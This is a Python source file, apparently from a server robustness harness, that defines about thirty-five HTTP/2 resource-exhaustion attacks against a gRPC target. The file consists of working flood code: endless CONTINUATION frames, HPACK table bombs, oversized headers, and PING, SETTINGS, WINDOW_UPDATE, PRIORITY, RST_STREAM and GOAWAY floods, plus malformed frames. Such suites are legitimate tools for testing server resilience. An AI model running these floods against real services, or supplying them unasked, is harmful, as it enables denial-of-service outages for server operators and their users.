# SPDX-License-Identifier: Apache-2.0
"""Attacks with frames that cost the server more than the client: no call is ever complete."""
import struct

import h2
from roster import attack
from swarm import CLOSE

CONNECTIONS = 4
CHUNK = 1 << 16


def repeated(one, begin=b"", **settings):
    """A script that opens a connection, sends `begin`, and then `one` again and again."""
    chunk = one * max(1, CHUNK // len(one))

    def script(_peer):
        yield h2.opening(**settings) + begin
        while True:
            yield chunk
    return script


def over_streams(piece, first=1, count=2000):
    """A script that sends `piece` for one stream after another."""
    def script(_peer):
        yield h2.opening()
        for at in range(first, 2**31 - 1 - 2 * count, 2 * count):
            yield h2.flow([piece], at, count)
        yield CLOSE
    return script


def open_call(stream=1):
    return h2.headers(stream, h2.call_block(h2.INFER))


def half_call(stream=1):
    """HEADERS that do not end."""
    return h2.headers(stream, h2.call_block(h2.INFER), 0)


@attack("CONTINUATION frames of 16 KB without end", over=True, seconds=3)
def continuation(swarm, target):
    block = h2.field("a", "b" * 4000) * 4
    swarm.add(CONNECTIONS, target.grpc,
              repeated(h2.frame(h2.CONTINUATION, 0, 1, block), half_call()))


@attack("empty CONTINUATION frames without end", over=True)
def continuation_empty(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.frame(h2.CONTINUATION, 0, 1), half_call()))


@attack("one header without end, in CONTINUATION frames of 16 KB", over=True)
def continuation_one(swarm, target):
    begin = h2.frame(h2.CONTINUATION, 0, 1, b"\x00" + h2.text("a") + h2.integer(2**31 - 1, 7))
    swarm.add(CONNECTIONS, target.grpc,
              repeated(h2.frame(h2.CONTINUATION, 0, 1, b"b" * 16000), half_call() + begin))


@attack("calls with 1 MB of headers each", over=True)
def huge_headers(swarm, target):
    block = h2.field("a", "b" * 4000) * 4
    pieces = [half_call(0)] + [h2.frame(h2.CONTINUATION, 0, 0, block)] * 63 \
        + [h2.frame(h2.CONTINUATION, h2.END_HEADERS, 0, block)]
    swarm.add(CONNECTIONS, target.grpc, calls_of(pieces))


@attack("calls with 7 KB of headers each, which is allowed, 1,000 a connection, held")
def large_headers(swarm, target):
    piece = h2.headers(0, h2.call_block(h2.INFER) + h2.field("a", "b" * 1700) * 4)

    def script(_peer):
        yield h2.opening()
        for first in range(1, 2000, 20):
            yield h2.flow([piece], first, 10)
    swarm.add(CONNECTIONS, target.grpc, script)


def calls_of(pieces):
    def script(_peer):
        yield h2.opening()
        for first in range(1, 2**31 - 3, 2):
            yield h2.flow(pieces, first, 1)
    return script


@attack("calls whose headers name one entry of the table 12,000 times")
def table_bomb(swarm, target):
    kept = h2.headers(1, h2.call_block(h2.INFER) + h2.field("a", "b" * 3900, kept=True))
    bomb = h2.headers(0, h2.call_block(h2.INFER) + h2.indexed(62) * 12000)

    def script(_peer):
        yield h2.opening() + kept
        for first in range(3, 2**31 - 3, 2):
            yield h2.flow([bomb], first, 1)
    swarm.add(CONNECTIONS, target.grpc, script)


@attack("changes of the table's size without end")
def table_sizes(swarm, target):
    sizes = h2.integer(0, 5, 0x20) + h2.integer(4096, 5, 0x20)
    swarm.add(CONNECTIONS, target.grpc,
              calls_of([h2.headers(0, sizes * 2000 + h2.call_block(h2.INFER)), h2.reset(0)]))


@attack("trailers again and again on one call")
def trailers(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.headers(1, h2.field("a", "b")), open_call()))


@attack("PING flood", over=True, counted=False)
def ping(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.ping()))


@attack("PING flood, answers unread", over=True, counted=False, receive_bytes=4096, seconds=3)
def ping_deaf(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.ping()), reads=False)


@attack("500 connections with 20 pings a second each")
def pings_spread(swarm, target):
    def script(_peer):
        yield h2.opening()
        while True:
            yield h2.ping() * 4
            yield 0.2
    swarm.add(500, target.grpc, script)


@attack("flood of answers to pings that nobody sent", over=True)
def ping_acks(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.frame(h2.PING, h2.ACK, 0, b"hostile!")))


@attack("SETTINGS flood", over=True)
def settings(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.settings(MAX_FRAME_SIZE=16384)))


@attack("SETTINGS flood, answers unread", over=True, receive_bytes=4096)
def settings_deaf(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.settings()), reads=False)


@attack("SETTINGS that change the windows of 900 open calls, again and again", over=True)
def settings_windows(swarm, target):
    full, again = h2.kept_block(h2.INFER)
    begin = h2.headers(1, full) + h2.flow([h2.headers(0, again)], 3, 900)
    one = h2.settings(INITIAL_WINDOW_SIZE=1) + h2.settings(INITIAL_WINDOW_SIZE=65535)
    swarm.add(CONNECTIONS, target.grpc, repeated(one, begin))


@attack("SETTINGS with 2,700 rows each", over=True)
def settings_long(swarm, target):
    body = struct.pack(">HI", h2.MAX_FRAME_SIZE, 16384) * 2700
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.frame(h2.SETTINGS, 0, 0, body)))


@attack("empty DATA frames on one call", over=True)
def data_empty(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.frame(h2.DATA, 0, 1), open_call()))


@attack("empty DATA frames on 100 calls", over=True)
def data_empty_many(swarm, target):
    full, again = h2.kept_block(h2.INFER)
    begin = h2.headers(1, full) + h2.flow([h2.headers(0, again)], 3, 99)
    swarm.add(CONNECTIONS, target.grpc,
              repeated(h2.flow([h2.frame(h2.DATA, 0, 0)], 1, 100), begin))


@attack("DATA frames of padding", over=True, counted=False)
def data_padding(swarm, target):
    body = b"\xff" + bytes(255)
    swarm.add(CONNECTIONS, target.grpc,
              repeated(h2.frame(h2.DATA, h2.PADDED, 1, body), open_call()))


@attack("DATA frames of one byte on one call, as fast as possible", over=True)
def data_bytes(swarm, target):
    begin = open_call() + h2.data(1, h2.message(b"", 1 << 22))
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.data(1, b"x"), begin))


@attack("DATA on streams that never were", over=True, counted=False)
def data_idle(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, over_streams(h2.frame(h2.DATA, 0, 0, b"x" * 100)))


@attack("WINDOW_UPDATE flood on the connection", over=True)
def window_connection(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.window(0, 1)))


@attack("WINDOW_UPDATE flood on one call", over=True)
def window_call(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.window(1, 1), open_call()))


@attack("WINDOW_UPDATE flood on streams that never were", over=True)
def window_idle(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, over_streams(h2.window(0, 1)))


@attack("WINDOW_UPDATE of zero")
def window_zero(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.window(0, 0) + h2.window(1, 0), open_call()))


@attack("windows beyond 2^31")
def window_large(swarm, target):
    swarm.add(CONNECTIONS, target.grpc,
              repeated(h2.window(0, 2**31 - 1) + h2.window(1, 2**31 - 1), open_call()))


@attack("PRIORITY storm on streams that never were", over=True)
def priority(swarm, target):
    swarm.add(CONNECTIONS, target.grpc,
              over_streams(h2.frame(h2.PRIORITY, 0, 0, struct.pack(">IB", 1, 255))))


@attack("PRIORITY storm on one call", over=True)
def priority_one(swarm, target):
    one = h2.frame(h2.PRIORITY, 0, 1, struct.pack(">IB", 2**31 + 3, 7))
    swarm.add(CONNECTIONS, target.grpc, repeated(one, open_call()))


@attack("frames of types that nobody knows", over=True)
def unknown_frames(swarm, target):
    one = b"".join(h2.frame(kind, 255, 0, b"?" * (kind % 40)) for kind in range(0x20, 0x100))
    swarm.add(CONNECTIONS, target.grpc, repeated(one))


@attack("RST_STREAM on streams that never were", over=True)
def reset_idle(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, over_streams(h2.reset(0)))


@attack("GOAWAY flood")
def goaway(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, repeated(h2.goaway(text=b"because" * 10)))


@attack("GOAWAY, and then calls")
def goaway_calls(swarm, target):
    full, again = h2.kept_block(h2.INFER)

    def script(_peer):
        yield h2.opening() + h2.headers(1, full) + h2.goaway()
        for first in range(3, 2**31 - 2001, 2000):
            yield h2.flow([h2.headers(0, again)], first, 1000)
    swarm.add(CONNECTIONS, target.grpc, script)


@attack("PUSH_PROMISE flood")
def push_promise(swarm, target):
    body = struct.pack(">I", 2) + h2.call_block(h2.INFER)
    swarm.add(CONNECTIONS, target.grpc,
              repeated(h2.frame(h2.PUSH_PROMISE, h2.END_HEADERS, 1, body), open_call()))


@attack("garbage behind the preface")
def garbage(swarm, target):
    swarm.add(CONNECTIONS, target.grpc, repeated(bytes(range(255, -1, -1))))


@attack("frames of wrong sizes, one connection after another")
def wrong_sizes(swarm, target):
    frames = [h2.frame(h2.PING, 0, 0, b"x"), h2.frame(h2.SETTINGS, 0, 0, b"12345"),
              h2.frame(h2.WINDOW_UPDATE, 0, 0, b""), h2.frame(h2.RST_STREAM, 0, 1, b"1"),
              h2.frame(h2.PRIORITY, 0, 1, b"123"), h2.frame(h2.GOAWAY, 0, 0, b"1"),
              h2.frame(h2.DATA, 0, 0, b"x"), h2.frame(h2.HEADERS, 4, 0, b"x"),
              h2.frame(h2.DATA, h2.PADDED, 1, b"\xff"), h2.frame(h2.DATA, 0, 1, bytes(20000))]

    def script(peer):
        yield h2.opening() + open_call() + frames[peer.number % len(frames)]
    swarm.add(len(frames), target.grpc, script)
